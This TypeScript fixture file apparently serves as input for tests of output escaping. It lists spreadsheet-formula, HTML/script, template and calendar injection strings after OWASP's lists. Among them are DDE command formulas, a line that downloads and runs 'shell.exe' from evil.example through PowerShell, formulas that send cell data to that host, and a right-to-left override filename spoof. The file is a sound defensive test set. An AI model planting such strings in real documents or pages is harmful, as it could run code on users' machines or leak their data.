/** Texts that a cell, a file, a calendar or a page could take for something else than text (after OWASP's lists). */

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=SUM(1,1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A3,"点这里")',
  '=WEBSERVICE("https://evil.example/"&B3)',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMAGE("https://evil.example/p.png")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
  '=FILTERXML("<a>1</a>","//a")',
  "=INDIRECT(\"'选项'!A1\")",
  "=A1:A9",
  "={1,2;3,4}",
  "=TRUE",
  "==1",
  "=-+1",
  "+8613800001111",
  "-（样品）已寄",
  "@海纳",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\t+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '",=1+1,"',
  "第一行\n=1+1",
  "a\t=1+1",
];

const otherKinds = [
  "1E5",
  "3/4",
  "1-2",
  "12:30",
  "50%",
  "￥100",
  "TRUE",
  "#REF!",
  "#N/A",
  "00123",
  "13800001111",
  "9".repeat(20),
];

const markup = [
  "<script>window.isHacked = 1</script>",
  "<img src=x onerror=window.isHacked=1>",
  "<svg/onload=window.isHacked=1>",
  '"><b onclick=window.isHacked=1>x</b>',
  "</textarea><script>window.isHacked=1</script>",
  "javascript:window.isHacked=1",
  "<a href=https://evil.example>x</a>",
  "<style>*{display:none}</style>",
  "&lt;b&gt;&amp;&#x3C;",
  "{{constructor.constructor('window.isHacked=1')()}}",
  "${window.isHacked=1}",
  "]]><cell/>",
  "_x0041_",
  "<!-- -->",
];

const calendarLines = [
  "a\r\nBEGIN:VEVENT\r\nSUMMARY:x",
  "a\nEND:VCALENDAR",
  "a;ATTENDEE:mailto:x@evil.example",
  "a\\nb\\,c\\;d",
  "长".repeat(80),
];

const unusualSigns = ["a\u202Egpj.exe", "\uFEFF=1+1", "\u200B=1+1", "a\u00ADb", "😀=1", "a\u2028=1"];

export const hostileTexts: readonly string[] = [
  ...formulas,
  ...otherKinds,
  ...markup,
  ...calendarLines,
  ...unusualSigns,
];
